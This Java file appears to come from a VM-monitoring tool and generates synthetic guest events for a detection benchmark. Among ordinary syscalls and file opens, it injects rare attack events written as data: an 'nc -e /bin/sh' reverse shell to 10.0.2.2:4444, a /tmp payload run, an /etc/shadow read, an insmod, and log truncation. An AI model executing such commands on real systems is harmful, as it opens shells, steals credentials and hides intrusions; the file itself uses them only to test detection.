package io.vmiscope.cli.bench;

import io.vmiscope.events.Event;
import io.vmiscope.events.ExecEvent;
import io.vmiscope.events.ExitEvent;
import io.vmiscope.events.FileEvent;
import io.vmiscope.events.ForkEvent;
import io.vmiscope.events.NetworkEvent;
import io.vmiscope.events.ProcessRef;
import io.vmiscope.events.SyscallArgument;
import io.vmiscope.events.SyscallEvent;

import java.util.List;
import java.util.SplittableRandom;
import java.util.function.Consumer;

/**
 * Events shaped like a monitored busybox guest for {@code bench detect}: syscalls (40 %), file operations (25 %),
 * forks, execs and exits (10 % each), connections (5 %) — services, cron jobs and CGI requests — with an attack
 * step (a web shell, nc -e, a download run from /tmp, a shadow read, a log truncation) about once in 20,000
 * events, so alerts of every level are raised. Deterministic for a seed.
 */
public final class DetectWorkload {

    private static final String[] PROGRAMS = {"/bin/ls", "/bin/cat", "/usr/bin/wc", "/bin/date", "/bin/ps",
            "/usr/bin/uptime", "/bin/grep", "/bin/sleep"};
    private static final String[] FILES = {"/proc/uptime", "/etc/passwd", "/var/log/messages", "/srv/www/index.html",
            "/proc/loadavg", "/etc/hosts", "/tmp/work.txt", "/var/log/heartbeat"};
    private static final String[] SYSCALLS = {"read", "write", "openat", "close", "fstat", "mmap", "brk", "getuid"};
    private static final String[][] ATTACKS = {{"/bin/busybox", "nc", "-e", "/bin/sh", "10.0.2.2", "4444"},
            {"/tmp/payload", "/tmp/payload"}, {"/bin/cat", "cat", "/etc/shadow"}, {"/sbin/insmod", "insmod", "x.ko"}};

    private DetectWorkload() {
    }

    /** Emits {@code count} events of VM {@code vm}, one microsecond apart from {@code startNanos}. */
    public static void generate(String vm, long count, long seed, long startNanos, Consumer<Event> out) {
        SplittableRandom random = new SplittableRandom(seed);
        for (long i = 0; i < count; i++) {
            long t = startNanos + i * 1_000;
            int pid = 300 + random.nextInt(2_000);
            ProcessRef p = new ProcessRef(pid, pid, 1, random.nextInt(10) == 0 ? 1000 : 0, "sh");
            int kind = random.nextInt(100);
            if (random.nextInt(20_000) == 0) {
                out.accept(attack(vm, t, p, random));
            } else if (kind < 40) {
                String name = SYSCALLS[random.nextInt(SYSCALLS.length)];
                long a0 = random.nextInt(16);
                out.accept(new SyscallEvent(t, vm, "syscalls:file", p, name, -1, List.of(
                        new SyscallArgument("fd", "FD", a0, Long.toString(a0), false, false),
                        new SyscallArgument("count", "INT", 4096, "4096", false, false)), "0", "x64"));
            } else if (kind < 65) {
                boolean write = random.nextInt(4) == 0;
                out.accept(new FileEvent(t, vm, "files", p, "open", FILES[random.nextInt(FILES.length)], null,
                        write ? "O_WRONLY|O_CREAT|O_APPEND" : "O_RDONLY", "openat"));
            } else if (kind < 75) {
                out.accept(new ForkEvent(t, vm, "procevents", p, 300 + random.nextInt(2_000), pid, false));
            } else if (kind < 85) {
                String program = PROGRAMS[random.nextInt(PROGRAMS.length)];
                out.accept(new ExecEvent(t, vm, "procevents", p, "/bin/busybox",
                        List.of(program.substring(program.lastIndexOf('/') + 1), "-x", "/proc/" + pid), true));
            } else if (kind < 95) {
                out.accept(new ExitEvent(t, vm, "procevents", p, 0, 0, false));
            } else {
                out.accept(new NetworkEvent(t, vm, "network", p, random.nextBoolean() ? "connect" : "accept",
                        "10.0.2." + random.nextInt(255) + ":" + (1024 + random.nextInt(60_000)), 3, "connect"));
            }
        }
    }

    private static Event attack(String vm, long t, ProcessRef p, SplittableRandom random) {
        int which = random.nextInt(ATTACKS.length + 1);
        if (which == ATTACKS.length) {
            return new FileEvent(t, vm, "files", p, "open", "/var/log/messages", null, "O_WRONLY|O_TRUNC", "openat");
        }
        String[] a = ATTACKS[which];
        return new ExecEvent(t, vm, "procevents", p, a[0], List.of(a).subList(1, a.length), true);
    }
}
